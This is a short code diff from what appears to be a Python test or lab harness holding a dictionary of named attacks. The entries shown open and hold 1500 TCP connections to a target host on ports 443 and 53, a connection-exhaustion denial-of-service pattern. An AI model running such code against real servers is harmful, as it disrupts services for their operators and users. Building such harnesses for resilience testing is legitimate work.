@@ -36,16 +36,18 @@ ATTACKS = {
     import resource
     resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
     kept = []
-    while len(kept) < 1500:
-        kept.append(socket.create_connection((sys.argv[1], 443)))
+    for _ in range(1500):
+        try: kept.append(socket.create_connection((sys.argv[1], 443)))
+        except ConnectionResetError: pass
     say("attacking")
     """,
     "silent name service": """
     import resource
     resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
     kept = []
-    while len(kept) < 1500:
-        kept.append(socket.create_connection((sys.argv[1], 53)))
+    for _ in range(1500):
+        try: kept.append(socket.create_connection((sys.argv[1], 53)))
+        except ConnectionResetError: pass
     say("attacking")
     """,
     "never reads": """
